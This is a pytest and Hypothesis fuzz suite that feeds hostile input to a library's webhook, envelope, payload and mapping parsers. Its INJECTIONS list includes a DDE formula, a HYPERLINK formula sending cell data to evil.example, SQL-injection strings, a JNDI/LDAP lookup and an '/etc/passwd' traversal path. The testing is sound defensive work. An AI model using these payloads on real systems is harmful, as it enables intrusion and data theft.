"""Hostile input against every parser of ``lib``.

Each input must either be accepted or be refused with the module's own,
documented error type and a readable message: ``EnvelopeError``,
``PayloadError``, ``validate()`` errors / ``CanonicalError``, ``MappingError``,
``UnsafeXMLError`` (a ValueError), ``SignatureError``. Any other exception is
a crash and fails the test. Whatever the envelope accepts must also be
storable as strict JSON in UTF-8, which is what the exchange log does with it.

Tests whose docstring starts with "Fixed" pin down crashes this suite
found and that were fixed.

A one-line summary ("hostile parsers: N inputs, R rejected cleanly,
A accepted, C crashes") is written when the module's tests are done.
"""

import base64
import codecs
import copy
import json
import sys
import time
import traceback
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lib import (
    canonical,
    envelope,
    mapping_engine,
    ordering,
    safe_xml,
    standard_webhooks,
    supplier_payload,
)
from lib.mapping_engine import MappingError, Rule

TALLY = Counter(tried=0, rejected=0, accepted=0, crashes=0)
FUZZ = settings(
    max_examples=200,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
MAPPINGS = Path(__file__).resolve().parents[2] / "mappings"
NOW = 1_800_000_000
SECRET = "whsec_" + base64.b64encode(b"A" * 32).decode()
OTHER_SECRET = "whsec_" + base64.b64encode(b"B" * 32).decode()
MB = 1024 * 1024

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1)",
    "@x",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "'; DROP TABLE res_partner; --",
    "Robert'); DELETE FROM fih_message WHERE ('1'='1",
    "1 OR 1=1",
    '" OR ""="',
    "%(name)s %s {0} ${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "\u202eevil.exe\u202cfdp.txt",  # right-to-left override
    "Acme\u200b\u200c\u200d\ufeffLtd",  # zero-width characters
    "\u05e9\u05dc\u05d5\u05dd Ltd",  # Hebrew
    "\U0001f4a9 Ltd",
    "Ａｃｍｅ",  # full-width
    "Ltd\u0301\u0301\u0301",  # combining marks
]


@pytest.fixture(scope="module", autouse=True)
def _summary(request):
    yield
    line = (
        f"hostile parsers: {TALLY['tried']} inputs, {TALLY['rejected']} rejected "
        f"cleanly, {TALLY['accepted']} accepted, {TALLY['crashes']} crashes"
    )
    plugins = request.config.pluginmanager
    reporter = plugins.get_plugin("terminalreporter")
    capture = plugins.get_plugin("capturemanager")
    if reporter is None or capture is None:
        sys.__stdout__.write(line + "\n")
        return
    with capture.global_and_fixture_disabled():
        reporter.write("\n")
        reporter.write_line(line)


def _crash(call_name, exc):
    TALLY["crashes"] += 1
    # the last frames only: a RecursionError has a thousand of them
    where = "".join(traceback.format_tb(exc.__traceback__)[-3:])
    raise AssertionError(
        f"crash in {call_name}: {type(exc).__name__}: {str(exc)[:300]}\n{where}"
    ) from None


def expect(call, errors, *args, **kwargs):
    """``call(*args)``: accepted, or refused with one of ``errors``."""
    TALLY["tried"] += 1
    try:
        result = call(*args, **kwargs)
    except errors as exc:
        assert str(exc).strip(), f"{type(exc).__name__} without a message"
        assert "Traceback" not in str(exc)
        TALLY["rejected"] += 1
        return exc
    except Exception as exc:  # anything else is a crash
        _crash(getattr(call, "__name__", repr(call)), exc)
    TALLY["accepted"] += 1
    return result


def expect_validation(object_type, document):
    """``canonical.validate``: a list of readable errors, never an exception."""
    TALLY["tried"] += 1
    try:
        errors = canonical.validate(object_type, document)
    except Exception as exc:
        _crash("canonical.validate", exc)
    assert isinstance(errors, list)
    for error in errors:
        assert isinstance(error["path"], str) and error["path"].startswith("$")
        assert isinstance(error["reason"], str) and error["reason"].strip()
    TALLY["rejected" if errors else "accepted"] += 1
    return errors


def assert_storable(document):
    """What was accepted goes to the log as strict JSON, UTF-8 encoded."""
    try:
        json.dumps(document, ensure_ascii=False, allow_nan=False).encode("utf-8")
    except (ValueError, UnicodeError) as exc:  # counted as a crash by expect()
        raise AssertionError(
            f"accepted but not storable as JSON in UTF-8: {exc}"
        ) from exc


def nested(depth, leaf=None):
    """A list ``depth`` levels deep, built without recursion."""
    value = leaf
    for _ in range(depth):
        value = [value]
    return value


def nested_dict(depth, leaf="x"):
    value = leaf
    for _ in range(depth):
        value = {"a": value}
    return value


JSON_SCALARS = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40)
)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.text(max_size=12), children, max_size=4),
    max_leaves=12,
)
# what a WSGI server can deliver in a header: latin-1 text
HEADER_TEXT = st.text(alphabet=st.characters(max_codepoint=255), max_size=300)


# -- envelope --------------------------------------------------------------------------

VALID_EVENT = {
    "id": "evt-1",
    "type": "supplier.upsert",
    "occurred_at": "2026-11-26T06:00:00Z",
    "data": {"external_id": "SUP-1", "name": "Acme"},
}
VALID_BODY = json.dumps(VALID_EVENT).encode()
KNOWN_TYPES = {"supplier.upsert"}

HOSTILE_BODIES = [
    b"",
    b" ",
    b"\n\t",
    b"{",
    b"}",
    b"[",
    b"null",
    b"true",
    b"0",
    b'"just a string"',
    b"[]",
    b"{}",
    b'{"events": []}',
    b'{"events": {}}',
    b'{"events": null}',
    b'{"events": [1, "two", null, []]}',
    b'[{"id": "a", "type": "supplier.upsert", "data": {}}]',
    b'{"id": "a", "type": "supplier.upsert", "data": []}',
    b'{"id": "a", "type": "supplier.upsert", "data": "x"}',
    b'{"id": 1, "type": "supplier.upsert", "data": {}}',
    b'{"id": "", "type": "supplier.upsert", "data": {}}',
    b'{"id": "   ", "type": "supplier.upsert", "data": {}}',
    b'{"id": "a", "type": "Supplier.Upsert", "data": {}}',
    b'{"id": "a", "type": "supplier.upsert\\n", "data": {}}',
    b'{"id": "a", "type": "supplier", "data": {}}',
    b'{"id": "a", "type": "invoice.teleport", "data": {}}',
    b'{"id": "a", "type": ["supplier.upsert"], "data": {}}',
    b'{"id": "a", "type": "supplier.upsert", "data": {}, "occurred_at": 5}',
    b'{"id": "a", "type": "supplier.upsert", "data": {"x": NaN}}',
    b'{"id": "a", "type": "supplier.upsert", "data": {"x": Infinity}}',
    b'{"id": "a", "type": "supplier.upsert", "data": {"x": -Infinity}}',
    b'{"id": "a", "type": "supplier.upsert", "data": {"x": 0x10}}',
    b'{"id": "a", "type": "supplier.upsert", "data": {"x": 01}}',
    b'{"id": "a", "type": "supplier.upsert", "data": {"x": .5}}',
    b'{"id": "a", "type": "supplier.upsert", "data": {"x": +1}}',
    b'{"id": "a", "type": "supplier.upsert", "data": {"x": 1e}}',
    b"{'id': 'a', 'type': 'supplier.upsert', 'data': {}}",
    b'{"id": "a", "type": "supplier.upsert", "data": {},}',
    b'{"id": "a" "type": "supplier.upsert"}',
    b'{"id": "a\x00b", "type": "supplier.upsert", "data": {}}',  # raw NUL
    b'{"id": "a\nb", "type": "supplier.upsert", "data": {}}',  # raw newline
    b'{"id": "a\\x41", "type": "supplier.upsert", "data": {}}',
    b'{"id": "a\\u12", "type": "supplier.upsert", "data": {}}',
    b"\xff\xfe{}",
    b'{"id": "\xff", "type": "supplier.upsert", "data": {}}',
    b'{"id": "\xc0\xaf", "type": "supplier.upsert", "data": {}}',  # overlong "/"
    b'{"id": "\xed\xa0\x80", "type": "supplier.upsert", "data": {}}',  # CESU-8
    b'{"id": "\xf4\x90\x80\x80", "type": "supplier.upsert", "data": {}}',
    b'{"id": "caf\xe9", "type": "supplier.upsert", "data": {}}',  # latin-1
    b"\x00" * 64,
    codecs.BOM_UTF8 + VALID_BODY,
    VALID_BODY.decode().encode("utf-16"),
    VALID_BODY.decode().encode("utf-16-le"),
    VALID_BODY.decode().encode("utf-16-be"),
    VALID_BODY.decode().encode("utf-32"),
    VALID_BODY.decode().encode("cp500"),  # EBCDIC
    VALID_BODY + b"\x00",
    VALID_BODY + b"garbage",
    VALID_BODY + VALID_BODY,
    b"[" * 5000 + b"]" * 5000,
    b'{"a":' * 5000 + b"1" + b"}" * 5000,
    b"[" * 100_000,
    b'{"id": "a", "type": "supplier.upsert", "data": {"n": ' + b"9" * 5000 + b"}}",
    b'{"id": "a", "type": "supplier.upsert", "data": {"n": -' + b"9" * 4301 + b"}}",
    b'{"events": [' + b",".join([VALID_BODY] * 3) + b"]}",  # repeated ids
]


def _accepted_envelope(body, max_events=500):
    document = envelope.parse_json(body)
    assert_storable(document)
    events, _is_batch = envelope.split_events(document, max_events, KNOWN_TYPES)
    return events


@pytest.mark.parametrize("body", HOSTILE_BODIES, ids=range(len(HOSTILE_BODIES)))
def test_hostile_bodies_are_refused_with_an_envelope_error(body):
    outcome = expect(_accepted_envelope, envelope.EnvelopeError, body)
    assert isinstance(outcome, envelope.EnvelopeError), "accepted a hostile body"
    assert outcome.code in ("malformed_json", "invalid_envelope", "batch_too_large")
    response = outcome.as_response()
    assert response["error"] == outcome.code
    for error in response["details"]:
        assert error["path"].startswith("$") and error["reason"]
    json.dumps(response)  # the 400 body can always be written


def test_every_truncation_of_a_valid_body_is_refused():
    for length in range(len(VALID_BODY)):
        outcome = expect(
            _accepted_envelope, envelope.EnvelopeError, VALID_BODY[:length]
        )
        assert isinstance(outcome, envelope.EnvelopeError), VALID_BODY[:length]
    assert expect(_accepted_envelope, envelope.EnvelopeError, VALID_BODY)


@pytest.mark.parametrize("value", INJECTIONS)
def test_hostile_but_valid_content_is_accepted_verbatim(value):
    event = {"id": value, "type": "supplier.upsert", "data": {"name": value}}
    events = expect(_accepted_envelope, envelope.EnvelopeError, json.dumps(event))
    assert events[0]["id"] == value and events[0]["data"]["name"] == value


def test_big_but_valid_bodies_are_accepted():
    bodies = [
        json.dumps({**VALID_EVENT, "data": {"name": "x" * MB}}).encode(),
        json.dumps({**VALID_EVENT, "data": {"n": 10**4299}}).encode(),  # 4300 digits
        json.dumps({**VALID_EVENT, "data": {"deep": nested(400)}}).encode(),
        json.dumps({**VALID_EVENT, "id": "x" * envelope.MAX_ID_LENGTH}).encode(),
        json.dumps({**VALID_EVENT, "data": {"s": "\u0000\u0001\u001f"}}).encode(),
    ]
    for body in bodies:
        assert expect(_accepted_envelope, envelope.EnvelopeError, body)


def test_batches_over_the_limit_or_with_bad_members_are_refused():
    events = [{**VALID_EVENT, "id": f"evt-{n}"} for n in range(1000)]
    outcome = expect(
        _accepted_envelope, envelope.EnvelopeError, json.dumps({"events": events}), 500
    )
    assert outcome.code == "batch_too_large"
    broken = [*events[:3], {"id": "evt-x", "type": "supplier.upsert"}]
    outcome = expect(
        _accepted_envelope, envelope.EnvelopeError, json.dumps({"events": broken}), 10
    )
    assert outcome.errors == [
        {"path": "$.events[3].data", "reason": "required, a JSON object"}
    ]
    long_id = {**VALID_EVENT, "id": "x" * (envelope.MAX_ID_LENGTH + 1)}
    outcome = expect(_accepted_envelope, envelope.EnvelopeError, json.dumps(long_id))
    assert "longer than" in str(outcome)


@FUZZ
@given(body=st.binary(max_size=400))
def test_random_bytes_never_crash_the_envelope(body):
    outcome = expect(_accepted_envelope, envelope.EnvelopeError, body)
    assert isinstance(outcome, envelope.EnvelopeError | list)


@FUZZ
@given(text=st.text(max_size=300))
def test_random_text_never_crashes_the_envelope(text):
    expect(_accepted_envelope, envelope.EnvelopeError, text.encode("utf-8"))


@FUZZ
@given(
    document=JSON_VALUES
    | st.fixed_dictionaries(
        {"id": JSON_VALUES, "type": JSON_VALUES, "data": JSON_VALUES},
        optional={"occurred_at": JSON_VALUES, "events": JSON_VALUES},
    ),
    max_events=st.integers(min_value=1, max_value=5),
)
def test_random_documents_never_crash_split_events(document, max_events):
    expect(
        envelope.split_events, envelope.EnvelopeError, document, max_events, KNOWN_TYPES
    )


def test_escaped_lone_surrogates_are_refused_as_malformed():
    """Fixed: ``"\\ud800"`` is valid JSON syntax but not Unicode text. parse_json
    accepts it; storing the event then fails with UnicodeEncodeError when the
    exchange log hashes the payload (fih_message._store_inbound_events:
    ``hashlib.sha256(raw.encode())``), i.e. a 500 at the webhook."""
    for text in ('"\\ud800"', '"\\udfff"', '"a\\udc00b"', '"\\ud83d"'):
        body = f'{{"id": {text}, "type": "supplier.upsert", "data": {{}}}}'
        outcome = expect(_accepted_envelope, envelope.EnvelopeError, body.encode())
        assert isinstance(outcome, envelope.EnvelopeError), body


def test_numbers_beyond_float_range_are_refused():
    """Fixed: ``1e400`` parses to ``inf``: parse_json refuses the literal
    ``Infinity`` but not a number that overflows to it, and the log then
    stores the non-JSON token ``Infinity`` in fih.message.payload."""
    for number in ("1e400", "-1e400", "1" + "0" * 400 + ".0"):
        body = f'{{"id": "a", "type": "supplier.upsert", "data": {{"x": {number}}}}}'
        outcome = expect(_accepted_envelope, envelope.EnvelopeError, body.encode())
        assert isinstance(outcome, envelope.EnvelopeError), number


# -- standard webhooks -----------------------------------------------------------------


def _verify(headers, body=VALID_BODY, secrets=(SECRET,)):
    standard_webhooks.verify(list(secrets), headers, body, now=NOW)
    return True


def _signed(body=VALID_BODY, secret=SECRET, webhook_id="msg_1", timestamp=NOW):
    return standard_webhooks.sign(secret, webhook_id, body, timestamp=timestamp)


def test_forged_replayed_and_malformed_signatures_are_refused():
    good = _signed()
    other_signature = _signed(secret=OTHER_SECRET)["webhook-signature"]
    cases = [
        {},
        {**good, "webhook-id": ""},
        {**good, "webhook-timestamp": ""},
        {**good, "webhook-signature": ""},
        {**good, "webhook-id": "x" * 10_000},
        {**good, "webhook-timestamp": "abc"},
        {**good, "webhook-timestamp": "1.8e9"},
        {**good, "webhook-timestamp": "0x6b49d200"},
        {**good, "webhook-timestamp": "9" * 5000},
        {**good, "webhook-timestamp": "-" + str(NOW)},
        {**good, "webhook-timestamp": str(NOW - 301)},  # replayed late
        {**good, "webhook-timestamp": str(NOW + 301)},
        {**good, "webhook-timestamp": str(NOW + 1)},  # re-dated, same signature
        {**good, "webhook-id": "msg_2"},  # signature of another delivery
        {**good, "webhook-signature": "v1,"},
        {**good, "webhook-signature": "v1"},
        {**good, "webhook-signature": "v1,!!!not-base64!!!"},
        {**good, "webhook-signature": "v1,AAAA"},
        {**good, "webhook-signature": "v1," + "A" * 100_000},
        {**good, "webhook-signature": "v2," + good["webhook-signature"][3:]},
        {**good, "webhook-signature": "V1," + good["webhook-signature"][3:]},
        {**good, "webhook-signature": good["webhook-signature"] + "="},
        {**good, "webhook-signature": good["webhook-signature"].lower()},
        {**good, "webhook-signature": "v1a," + good["webhook-signature"][3:]},
        {**good, "webhook-signature": other_signature},  # another backend's secret
        {**good, "webhook-signature": " ".join([other_signature] * 100)},
        {**good, "webhook-signature": "v1,\xe9\xff" * 50},
        {**good, "webhook-signature": "\t" + good["webhook-signature"]},
    ]
    for headers in cases:
        outcome = expect(_verify, standard_webhooks.SignatureError, headers)
        assert isinstance(outcome, standard_webhooks.SignatureError), headers
    # a body that is not the signed one
    for body in (VALID_BODY + b" ", b"", VALID_BODY[:-1], VALID_BODY.upper()):
        outcome = expect(_verify, standard_webhooks.SignatureError, good, body)
        assert isinstance(outcome, standard_webhooks.SignatureError)
    # backend A's signature checked against backend B's secrets
    outcome = expect(
        _verify, standard_webhooks.SignatureError, good, VALID_BODY, [OTHER_SECRET]
    )
    assert isinstance(outcome, standard_webhooks.SignatureError)


def test_one_good_signature_among_many_is_accepted():
    good = _signed()
    other = _signed(secret=OTHER_SECRET)["webhook-signature"]
    headers = {
        **good,
        "webhook-signature": " ".join([other] * 99 + [good["webhook-signature"]]),
    }
    assert expect(_verify, standard_webhooks.SignatureError, headers) is True
    # header names as a proxy may send them
    titled = {name.title(): value for name, value in good.items()}
    assert expect(_verify, standard_webhooks.SignatureError, titled) is True


@pytest.mark.parametrize(
    "secret",
    [
        "",
        "whsec_",
        "whsec_!!!",
        "whsec_" + "A" * 7,
        "whsec_QUJD",
        "x" * 10_001,
        "whsec_\xe9",
    ],
)
def test_unusable_secrets_are_a_readable_value_error(secret):
    outcome = expect(standard_webhooks.decode_secret, ValueError, secret)
    assert isinstance(outcome, ValueError)


@FUZZ
@given(
    headers=st.dictionaries(
        st.sampled_from(["webhook-id", "webhook-timestamp", "webhook-signature"]),
        HEADER_TEXT,
    ),
    body=st.binary(max_size=200),
)
def test_random_headers_never_crash_verify(headers, body):
    outcome = expect(_verify, standard_webhooks.SignatureError, headers, body)
    assert isinstance(outcome, standard_webhooks.SignatureError)


@FUZZ
@given(
    webhook_id=HEADER_TEXT.filter(lambda text: 0 < len(text) <= 256),
    body=st.binary(max_size=300),
)
def test_any_properly_signed_request_verifies_and_any_change_is_refused(
    webhook_id, body
):
    headers = _signed(body=body, webhook_id=webhook_id)
    assert expect(_verify, standard_webhooks.SignatureError, headers, body) is True
    outcome = expect(_verify, standard_webhooks.SignatureError, headers, body + b"x")
    assert isinstance(outcome, standard_webhooks.SignatureError)


# -- supplier payload ------------------------------------------------------------------

PAYLOAD_FIELDS = [
    "external_id",
    "name",
    "vat",
    "company_registry",
    "email",
    "phone",
    "currency",
    "payment_terms",
    "updated_at",
    "address",
    "bank_accounts",
]
HUGE_INT = 10**400
# nesting beyond the recursion limit, which only Python callers can build
DEEP = (nested(5000), nested_dict(5000))
# the deepest nesting json.loads returns (deeper is refused as "too deep")
JSON_DEPTH = 900
JSON_DEEP = (nested(JSON_DEPTH), nested_dict(JSON_DEPTH))
HOSTILE_VALUES = [
    None,
    True,
    0,
    -1,
    HUGE_INT,
    1e308,
    float("inf"),
    "",
    " ",
    "\x00",
    "x" * MB,
    "9" * 100_000,
    [],
    {},
    ["a"],
    {"a": "b"},
    *DEEP,
    *INJECTIONS,
]


def _supplier(**values):
    return {"external_id": "SUP-1", "name": "Acme", **values}


def test_hostile_supplier_payloads_are_refused_or_accepted_never_crash():
    documents = [None, [], "supplier", 42, nested(5000), nested_dict(5000)]
    for field in PAYLOAD_FIELDS:
        documents.extend(_supplier(**{field: value}) for value in HOSTILE_VALUES)
    for value in HOSTILE_VALUES:
        documents.append(_supplier(address={"city": value, "country_code": value}))
        documents.append(_supplier(bank_accounts=[{"iban": value, "bic": value}]))
        documents.append(_supplier(bank_accounts=[value]))
    documents.append(_supplier(bank_accounts=[{"iban": "BE71096123456769"}] * 10_000))
    documents.append(_supplier(bank_accounts=[{"iban": "BE" + "9" * 100_000}]))
    for document in documents:
        expect(supplier_payload.normalize, supplier_payload.PayloadError, document)


@pytest.mark.parametrize("value", INJECTIONS)
def test_formula_and_sql_strings_are_kept_verbatim(value):
    supplier = expect(
        supplier_payload.normalize,
        supplier_payload.PayloadError,
        _supplier(name=value, address={"city": value, "street": value}),
    )
    # not executed, not escaped: escaping for CSV is the exporter's job
    assert supplier["name"] == value.strip()
    assert supplier["address"]["city"] == value.strip()


@FUZZ
@given(
    data=st.dictionaries(
        st.sampled_from(PAYLOAD_FIELDS) | st.text(max_size=8), JSON_VALUES, max_size=8
    )
)
def test_random_supplier_payloads_never_crash(data):
    expect(supplier_payload.normalize, supplier_payload.PayloadError, data)


@FUZZ
@given(iban=st.text(max_size=60))
def test_random_ibans_never_crash(iban):
    TALLY["tried"] += 1
    try:
        valid = supplier_payload.iban_is_valid(supplier_payload.compact(iban))
    except Exception as exc:
        _crash("iban_is_valid", exc)
    TALLY["accepted" if valid else "rejected"] += 1


# -- canonical model -------------------------------------------------------------------


CANONICAL_VALUES = [
    value for value in HOSTILE_VALUES if not any(value is deep for deep in DEEP)
] + list(JSON_DEEP)


def _hostile_documents(object_type):
    example = canonical.example(object_type)
    yield from (None, [], "x", 0, HUGE_INT, *JSON_DEEP, [example])
    for key in example:
        for value in CANONICAL_VALUES:
            yield {**example, key: value}
    yield {**example, "extensions": JSON_DEEP[1]}
    yield {**example, "unexpected": JSON_DEEP[0]}
    yield {**example, "unexpected": DEEP[0]}  # not reported: no repr() of it
    yield {**example, **{f"x{n}": n for n in range(2000)}}
    lists = [key for key, value in example.items() if isinstance(value, list)]
    for key in lists:
        yield {**example, key: example[key] * 5000}
        yield {**example, key: [nested(JSON_DEPTH - 1)]}
        yield {**example, key: [{**item, "x": 1} for item in example[key][:1]]}


@pytest.mark.parametrize("object_type", canonical.OBJECT_TYPES)
def test_hostile_canonical_documents_give_readable_errors(object_type):
    for document in _hostile_documents(object_type):
        expect_validation(object_type, document)
    errors = expect_validation(object_type, {**canonical.example(object_type), "x": 1})
    assert errors == [{"path": "$", "reason": "must not have the unexpected field 'x'"}]
    outcome = expect(canonical.check, canonical.CanonicalError, object_type, [])
    assert isinstance(outcome, canonical.CanonicalError)


def test_unknown_object_types_are_a_value_error():
    for object_type in ("res.partner", "", "../supplier", "supplier.v2"):
        outcome = expect(canonical.validate, ValueError, object_type, {})
        assert isinstance(outcome, ValueError)


@pytest.mark.parametrize("value", INJECTIONS)
def test_canonical_suppliers_keep_hostile_text(value):
    document = {**canonical.example("supplier"), "name": value}
    assert expect_validation("supplier", document) == []


@FUZZ
@given(
    object_type=st.sampled_from(canonical.OBJECT_TYPES),
    document=JSON_VALUES,
    key=st.text(max_size=20),
)
def test_random_documents_never_crash_validate(object_type, document, key):
    expect_validation(object_type, document)
    expect_validation(object_type, {**canonical.example(object_type), key: document})


DATE_TIMES = [
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59Z",
    "2026-02-30T00:00:00Z",
    "2026-11-26T24:00:00Z",
    "２０２６-11-26T06:00:00Z",
    "2026-11-26T06:00:00+99:99",
]


def _canonical_then_timestamp(value):
    errors = canonical.validate("supplier", _supplier(updated_at=value))
    if errors:
        raise canonical.CanonicalError(errors)
    return ordering.parse_timestamp(value)


def test_date_times_the_schema_refuses_are_refused_cleanly():
    for value in DATE_TIMES[3:]:
        outcome = expect(_canonical_then_timestamp, canonical.CanonicalError, value)
        assert isinstance(outcome, canonical.CanonicalError), value


def test_long_fractions_of_seconds_are_accepted():
    moment = expect(
        _canonical_then_timestamp,
        canonical.CanonicalError,
        "2026-11-26T06:00:00.99999999999999999999Z",
    )
    assert moment.isoformat() == "2026-11-26T06:00:00.999999"


def test_date_times_the_schema_accepts_can_be_ordered():
    """Fixed: "9999-12-31T23:59:59-23:59" is a valid canonical updated_at, but
    ordering.parse_timestamp raises OverflowError converting it to UTC
    (lib/ordering.py, ``moment.astimezone(UTC)``; only TypeError/ValueError
    are caught). The supplier flow then retries the message as an
    "Unexpected error (OverflowError)" until it is dead."""
    for value in DATE_TIMES[:3]:
        expect(_canonical_then_timestamp, canonical.CanonicalError, value)


# -- mapping engine --------------------------------------------------------------------


def _shipped_rules(name):
    definition = json.loads((MAPPINGS / name).read_text())
    return [Rule.from_dict(rule) for rule in definition["rules"]]


PLATFORM_RULES = _shipped_rules("procurement_platform_v2_supplier.json")
LOOKUP = mapping_engine.dict_lookup({"payment_terms": {"NET30": "30 Days"}})
PLATFORM_SAMPLE = json.loads(
    (MAPPINGS / "samples" / "procurement_platform_v2_supplier.json").read_text()
)
PLATFORM_SAMPLE = PLATFORM_SAMPLE.get("data", PLATFORM_SAMPLE)
SOURCE_KEYS = sorted(
    {rule.source.split(".")[0].removesuffix("[]") for rule in PLATFORM_RULES}
)
# copied values are deep-copied: deep nesting there is test_copy_of_...
COPIED_KEYS = {rule.source for rule in PLATFORM_RULES if rule.transform == "copy"}
# inf cannot come from JSON (the envelope refuses it, see test_numbers_...)
MAPPED_VALUES = [value for value in HOSTILE_VALUES if value != float("inf")]


def _apply(rules, document):
    output = mapping_engine.apply(rules, document, lookup=LOOKUP)
    # what the wizard and the log do with the result
    json.dumps(output, ensure_ascii=False, default=str)
    return output


def test_hostile_documents_never_crash_a_shipped_mapping():
    assert expect(_apply, MappingError, PLATFORM_RULES, PLATFORM_SAMPLE)
    documents = [None, [], "x", 5, nested(5000), [PLATFORM_SAMPLE]]
    for key in SOURCE_KEYS:
        documents.extend(
            {**PLATFORM_SAMPLE, key: value}
            for value in MAPPED_VALUES
            if key not in COPIED_KEYS or not any(value is deep for deep in DEEP)
        )
        if key not in COPIED_KEYS:
            documents.append({**PLATFORM_SAMPLE, key: [nested_dict(5000)]})
    for document in documents:
        expect(_apply, MappingError, PLATFORM_RULES, document)


@pytest.mark.parametrize("value", INJECTIONS)
def test_mapped_hostile_text_is_kept(value):
    output = expect(
        _apply, MappingError, PLATFORM_RULES, {**PLATFORM_SAMPLE, "name": value}
    )
    assert output["name"] == value.strip()


HOSTILE_PARAMS = {
    "format": ["", "%", "%Q", "\x00", "x" * 10_000, "%Y" + "%%" * 1000, 5, None],
    "timezone": ["", "\x00", "../../etc/passwd", "/etc/localtime", "x" * 10_000, 5],
    "decimal_separator": ["", "ab", "1", "-", None, 5],
    "thousands_separator": ["ab", "1", "+", 5],
    "digits": [-1, 13, 10**400, 2.5, True, "2", None],
    "factor": [float("inf"), float("nan"), "0.01", True, None],
    "table": ["", " ", 5, None, ["x"]],
    "value": [None, "", nested_dict(50), 10**400],
    "unknown": [1],
}
TRANSFORM_OF = {
    "format": "date",
    "timezone": "datetime",
    "decimal_separator": "decimal",
    "thousands_separator": "decimal",
    "digits": "decimal",
    "factor": "scale",
    "table": "lookup",
    "value": "constant",
    "unknown": "copy",
}
HOSTILE_PATHS = [
    "",
    ".",
    "a.",
    ".a",
    "a..b",
    "[]",
    "a[",
    "a]",
    "a[0]",
    "a[][]",
    "a[].b[]",
    "x" * 10_000,
    ".".join(["a"] * 2000),
    ".".join(["a[]"] * 50),
    "a b",
    "a\x00b",
    None,
    5,
    False,
]


def _checked_rules(rules):
    errors = mapping_engine.validate_rules(rules)
    if errors:
        raise MappingError(errors)
    return rules


def test_hostile_rules_are_configuration_errors():
    rules = []
    for name, values in HOSTILE_PARAMS.items():
        rules.extend(Rule("out", "in", TRANSFORM_OF[name], {name: v}) for v in values)
    for path in HOSTILE_PATHS:
        rules.append(Rule(path, "in"))
        rules.append(Rule("out", path))
    rules += [
        Rule("out", "in", "teleport"),
        Rule("out", "in", params=["not", "a", "mapping"]),
        Rule("out", "in", required="yes"),
        Rule("out", "in", sequence="1"),
        Rule("out", None),
        Rule("out[]", "in", "constant", {"value": 1}),
        Rule("out[]", "in"),
        "not a rule",
    ]
    for rule in rules:
        outcome = expect(_checked_rules, MappingError, [rule])
        if isinstance(rule, str):
            assert isinstance(outcome, MappingError)
    # two rules writing the same field, or a field and its parent
    for pair in ([Rule("a", "x"), Rule("a", "y")], [Rule("a", "x"), Rule("a.b", "y")]):
        assert isinstance(expect(_checked_rules, MappingError, pair), MappingError)


TRANSFORM_PARAMS = {
    "copy": [{}],
    "constant": [{"value": "v"}],
    "trim": [{}],
    "upper": [{}],
    "lower": [{}],
    "title": [{}],
    "compact": [{}],
    "date": [{}, {"format": "%d/%m/%Y"}],
    "datetime": [{}, {"format": "%Y-%m-%d %H:%M", "timezone": "Europe/Brussels"}],
    "decimal": [
        {},
        {"decimal_separator": ",", "thousands_separator": "."},
        {"digits": 2, "thousands_separator": " "},
    ],
    "integer": [{}],
    "scale": [{"factor": 0.01}, {"factor": 1e308}],
    "unit": [{}],
    "currency": [{}],
    "lookup": [{"table": "payment_terms"}, {"table": "t", "default": "d"}],
    "boolean": [{}],
}
TRANSFORM_VALUES = [
    value for value in MAPPED_VALUES if not isinstance(value, list | dict) or not value
] + [
    10**4299,
    -(10**4299),
    -1e308,
    5e-324,
    "1" * 4001,
    "1," * 100_000,
    "1 000 000,5",
    "١٢٣",
    "１２",
    "1e5",
    "NaN",
    "Infinity",
    "-0",
    "2026-02-30",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+14:00",
    "2026-11-26T06:00:00+25:00",
    "26/11/2026\x00",
]


def _transform(name, value, params):
    result = mapping_engine.transform(name, value, params, LOOKUP)
    json.dumps(result, ensure_ascii=False, default=str)
    return result


def test_every_transform_refuses_hostile_values_cleanly():
    for name, variants in TRANSFORM_PARAMS.items():
        for params in variants:
            for value in TRANSFORM_VALUES:
                if name == "scale" and isinstance(value, int) and abs(value) > 10**300:
                    continue  # see test_scale_of_a_huge_integer...
                started = time.monotonic()
                expect(_transform, MappingError, name, value, params)
                assert time.monotonic() - started < 2, (name, params, str(value)[:40])


@FUZZ
@given(
    name=st.sampled_from(sorted(TRANSFORM_PARAMS)),
    variant=st.integers(min_value=0, max_value=2),
    value=JSON_VALUES,
)
def test_random_values_never_crash_a_transform(name, variant, value):
    variants = TRANSFORM_PARAMS[name]
    expect(_transform, MappingError, name, value, variants[variant % len(variants)])


@FUZZ
@given(
    document=st.dictionaries(
        st.sampled_from(SOURCE_KEYS) | st.text(max_size=8), JSON_VALUES, max_size=8
    )
)
def test_random_documents_never_crash_the_shipped_mapping(document):
    expect(_apply, MappingError, PLATFORM_RULES, document)


@FUZZ
@given(path=st.text(max_size=30), source=st.text(max_size=30))
def test_random_paths_never_crash_rule_validation(path, source):
    expect(_checked_rules, MappingError, [Rule(path, source)])


def test_copy_of_deeply_nested_values_is_a_mapping_error():
    """Fixed: a value nested a few hundred levels deep, which parse_json and
    json.loads accept (< ~990 levels), makes the ``copy`` transform, and any
    ``default`` or ``constant``, fail with RecursionError from copy.deepcopy
    (lib/mapping_engine.py ``_copy``/``_apply_sourced``/``_apply_constant``).
    The shipped procurement_platform_v2_supplier mapping copies ``id`` to
    ``extensions.platform_id``, so ``{"id": [[[...]]]}`` reaches it."""
    deep = json.loads("[" * 900 + "]" * 900)
    assert not isinstance(
        expect(_apply, MappingError, PLATFORM_RULES, {**PLATFORM_SAMPLE, "id": deep}),
        RecursionError,
    )
    rule = Rule("out", "in", "copy")
    expect(_apply, MappingError, [rule], {"in": copy.deepcopy(nested(300))})
    expect(_apply, MappingError, [rule], {"in": deep})


